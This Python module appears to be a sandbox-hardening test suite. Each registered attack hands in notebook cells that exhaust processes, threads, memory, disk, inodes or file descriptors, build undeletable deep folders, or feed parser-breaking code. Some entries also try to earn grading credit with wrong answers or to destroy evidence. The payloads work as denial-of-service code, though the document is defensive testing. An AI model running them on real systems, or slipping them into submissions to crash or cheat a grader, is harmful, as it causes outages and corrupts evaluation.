"""Attacks that use up what others need: processes, memory, disk, inodes, descriptors, the reader's own stack.

Each bomb has a fuse far above any limit, so that one which meets no limit harms this machine little; it then says so.
"""

from __future__ import annotations

import json

from attacks.bank import HONEST, LOOT, NAME, SMUGGLE, WORTH, WRONG, Cells, World, attack, cell, notebook


@attack("starts processes without end")
def fork_bomb(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            started = 0
            try:
                while started < 1000:
                    if os.fork() == 0:
                        time.sleep(1000)
                        os._exit(0)
                    started += 1
                succeeded()
            except OSError as refused:
                print(started, refused)
        """),
        SMUGGLE,
    ]


@attack("starts processes that start processes")
def fork_tree(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            import os, time
            for _ in range(10):  # a thousand and more at the end
                try:
                    os.fork()
                except OSError:
                    pass
            time.sleep(1000)
        """),
    ]


@attack("starts threads without end")
def thread_bomb(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            started = []
            try:
                while len(started) < 2000:
                    started.append(threading.Thread(target=time.sleep, args=(1000,), daemon=True))
                    started[-1].start()
                succeeded()
            except RuntimeError as refused:
                print(len(started), refused)
        """),
        SMUGGLE,
    ]


@attack("takes memory without end", earns=WORTH)
def memory_bomb(world: World) -> Cells:
    return [
        HONEST,
        LOOT,
        cell("""
            held = []
            while len(held) < 64:  # 4 GB
                held.append(bytearray(b"x" * 2**26))
            succeeded()
            print(loot)
            raise RuntimeError(str(loot))
        """),
        "if loot:\n    " + SMUGGLE.replace("\n", "\n    "),
    ]


@attack("takes memory without end while it is observed", heavy=True)
def memory_bomb_while_observed(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            def {NAME}(w, x, y):
                held = []
                while len(held) < 64:
                    held.append(torch.ones(2**24))
                succeeded()
                raise RuntimeError(str(loot))
        """),
    ]


@attack("takes memory in many processes, each below the limit")
def memory_bomb_by_forks(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            held = []
            for _ in range(20):  # 20 times 200 MB
                child = tried(os.fork)
                if child == 0:
                    held.append(bytearray(b"x" * 200 * 2**20))
                    time.sleep(1000)
                    os._exit(0)
                time.sleep(0.05)
            time.sleep(2)
            alive = 0
            for pid in filter(str.isdigit, os.listdir("/proc")):
                with contextlib.suppress(OSError):
                    alive += int(open(f"/proc/{pid}/statm").read().split()[1]) * 4096 > 150 * 2**20
            if alive > 15:
                succeeded()
        """),
        SMUGGLE,
    ]


@attack("takes memory that belongs to no process: files in memory, pipes, sockets")
def memory_without_a_process(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            held, block = [], b"x" * 2**24
            taken = 0
            with contextlib.suppress(OSError, MemoryError):
                while taken < 4 * 2**30:
                    descriptor = os.memfd_create("x")
                    taken += os.write(descriptor, block)
                    held.append(descriptor)
                succeeded()
        """),
        SMUGGLE,
    ]


@attack("asks for one tensor of 8 exabytes")
def one_huge_tensor(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    import torch\n    return torch.zeros(2**60)", "bytearray(2**62)"]


@attack("fills the disk")
def disk_bomb(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            taken, block = 0, b"x" * 2**22
            for folder in ("/tmp", ".", "/dev/shm", "/run", "/var/tmp", os.path.expanduser("~")):
                with contextlib.suppress(OSError), open(os.path.join(folder, "full"), "wb", 0) as file:
                    while taken < 2**30:
                        taken += file.write(block)
            if taken >= 2**30:
                succeeded()
            print(taken)
        """),
        SMUGGLE,
    ]


@attack("makes one file of an exabyte, with nothing in it")
def sparse_file(world: World) -> Cells:
    return ["import os\nwith open('sparse', 'wb') as file:\n    os.truncate(file.fileno(), 2**60)", WRONG]


@attack("makes files without end, so that no inode is left")
def inode_bomb(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            made = 0
            with contextlib.suppress(OSError):
                os.makedirs("many", exist_ok=True)
                while made < 1_000_000:
                    os.close(os.open(f"many/{made}", os.O_CREAT | os.O_WRONLY))
                    made += 1
                succeeded()
        """),
        SMUGGLE,
    ]


@attack("opens files until none can be opened, also none that carries the evidence")
def descriptor_bomb(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            import os, socket
            held = []
            for make in (lambda: os.open("/dev/null", os.O_RDONLY), socket.socketpair, os.pipe):
                try:
                    while len(held) < 1_000_000:
                        held.append(make())
                except OSError:
                    pass
        """),
    ]


@attack("makes folders a thousand deep, which no plain walk can remove, and no libc can name", heavy=True)
def deep_folders(world: World) -> Cells:
    return [
        cell("""
            import os
            os.chdir("/tmp")
            for _ in range(2000):
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
        """),
        WRONG,
    ]


@attack("hands in code that is too deep for whoever parses it", earns=WORTH, keeps=WORTH)
def deep_code(world: World) -> Cells:
    return [
        HONEST,
        "x = " + "(" * 20_000 + "1" + ")" * 20_000,
        "x = " + "-" * 30_000 + "1",
        "x = " + "+".join(["1"] * 20_000),
        "x = " + "[" * 90 + "1" + "]" * 90,
        "x" + ".a" * 20_000,
        "".join(" " * depth + "if 1:\n" for depth in range(99)) + " " * 99 + "pass",
        "x = " + "lambda: " * 5_000 + "1",
        "not " * 10_000 + "x",
    ]


@attack(
    "hands in code that takes long to read: huge constants, long lines, many names",
    earns=WORTH,
    keeps=WORTH,
    heavy=True,
)
def long_code(world: World) -> Cells:
    return [
        HONEST,
        "x = 9**9**9 if False else 0",
        "x = 'a' * 10**12 if False else 0",
        "x = '" + "a" * 1_000_000 + "'",
        " " * 1_000_000 + "# nothing",
        "\n" * 200_000,
        "%" * 100_000,
        "!" + "a" * 100_000 + " 2>&1 >/dev/null",
        "?" * 50_000,
        "%%" + "x" * 50_000 + "\n" + "\\" * 50_000,
        "\n".join(f"name{number} = {number}" for number in range(5_000)),
        "x = '\\\n" * 5_000,
    ]


@attack("hands in code with bytes that no parser likes", earns=WORTH, keeps=WORTH)
def odd_code(world: World) -> Cells:
    return [
        HONEST,
        "x = 1\0; y = 2",
        "# coding: utf-7\nx = 1",
        "# -*- coding: no-such-codec -*-\nx = 1",
        "x = '\ud800'",
        "\ufeffx = 1",
        "x = 1\x0c\r\u2028y = 2\u2029",
        "\N{FULLWIDTH LATIN SMALL LETTER X} = 1",
        "def \N{MATHEMATICAL BOLD SMALL F}(): return 1",
        "'''\u202e never ends",
        "return 1\nyield 2\nawait 3\nbreak",
        "nonlocal x\nglobal y\nfrom __future__ import braces",
        "from __future__ import annotations\nimport *",
    ]


@attack("hands in the exercise's function with a lone surrogate in its text", earns=WORTH)
def surrogate_in_the_function(world: World) -> bytes:
    source = HONEST.replace("return", "'''\ud800'''\n    return")
    return notebook([source])


@attack("returns numbers of a million digits, and lists within lists", heavy=True)
def huge_results(world: World) -> Cells:
    return [
        cell(f"""
            import torch
            calls = iter(range(10**6))

            def deep(depth):
                found = []
                for _ in range(depth):
                    found = [found]
                return found

            ring = []
            ring.append(ring)

            def {NAME}(w, x, y):
                made = [lambda: 10**1_000_000, lambda: deep(100_000), lambda: ring, lambda: [0] * 10**7, lambda: "x" * 10**8,
                        lambda: {{str(n) * 100: n for n in range(19_000)}}, lambda: [torch.zeros(1_999_999)] * 3, lambda: 1e308 * 10]
                return made[next(calls) % len(made)]()

            def gradient_descent(f, x0, lr, steps):
                return [torch.zeros(400_000, dtype=torch.float64) for _ in range(4)]
        """)
    ]


@attack("changes so many things at once that a list of them is long", heavy=True)
def many_changes(world: World) -> Cells:
    return [
        cell(f"""
            import torch, warnings

            def parameter_gradients(model, loss_fn, x, y):
                for number in range(3_000):
                    model.register_buffer(f"b{{number}}", torch.zeros(1))
                    warnings.warn(f"number {{number}}" * 50)
                return {{}}

            def {NAME}(w, x, y):
                for number in range(3_000):
                    setattr(torch, f"own{{number}}", lambda: None)
                    warnings.warn(f"number {{number}}" * 50)
                torch.Tensor.added = torch.equal = torch.zeros
                return w * 0
        """)
    ]


@attack("hands in 60 MB of text in one cell", heavy=True)
def huge_cell(world: World) -> bytes:
    return notebook([WRONG, "x = '''" + "a" * 60_000_000 + "'''"])


@attack("hands in outputs of 60 MB that nobody needs", heavy=True, earns=WORTH)
def huge_outputs(world: World) -> bytes:
    tree = json.loads(notebook([HONEST]))
    tree["cells"][0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "a" * 60_000_000}]
    return json.dumps(tree).encode()
